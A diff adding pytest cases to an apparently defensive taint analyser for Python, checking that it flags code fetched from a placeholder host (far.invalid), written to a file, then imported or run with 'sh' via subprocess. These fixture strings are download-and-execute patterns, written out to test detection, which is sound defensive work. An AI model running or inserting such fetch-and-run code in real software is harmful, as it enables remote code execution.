@@ -4,9 +4,10 @@ import ast
 
 import pytest
 
+from pratique.analysis.facts import Capability, Taint
 from pratique.analysis.languages.python.evaluate import At
 from pratique.analysis.languages.python.writes import keys_within, path_keys
-from tests.analysis.languages.python.reading import evaluated
+from tests.analysis.languages.python.reading import evaluated, flows
 
 
 def share(source: str) -> bool:
@@ -51,3 +52,37 @@ def test_the_same_file_is_known_again(source: str) -> None:
 )
 def test_another_file_is_not(source: str) -> None:
     assert not share("p = f()\nd = g()\n" + source)
+
+
+FETCHED = "import os, urllib.request as u\nb = u.urlopen('https://far.invalid/m').read()\n"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "open(os.path.join(d, 'zz_mod.py'), 'wb').write(b)\nimport zz_mod",
+        "open('zz_mod.py', 'wb').write(b)\nfrom zz_mod import a",
+        "u.urlretrieve('https://far.invalid/m', d + '/zz_mod.py')\nimport zz_mod.part",
+    ],
+)
+def test_a_module_that_was_fetched_is_run_when_it_is_imported(source: str) -> None:
+    assert (Capability.CODE, "import", {Taint.NETWORK}) in flows(FETCHED + source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "open('zz_mod.py', 'wb').write(b)\nimport other",
+        "open('zz_mod.py', 'w').write('x = 1')\nimport zz_mod",
+    ],
+)
+def test_other_modules_are_not(source: str) -> None:
+    assert not [api for _, api, _ in flows(FETCHED + source) if api == "import"]
+
+
+def test_a_file_written_by_its_number_is_known_by_its_path() -> None:
+    source = (
+        FETCHED
+        + "import tempfile, subprocess\nf, p = tempfile.mkstemp()\nos.write(f, b)\nsubprocess.run(['sh', p])"
+    )
+    assert (Capability.PROCESS, "subprocess.run", {Taint.NETWORK}) in flows(source)
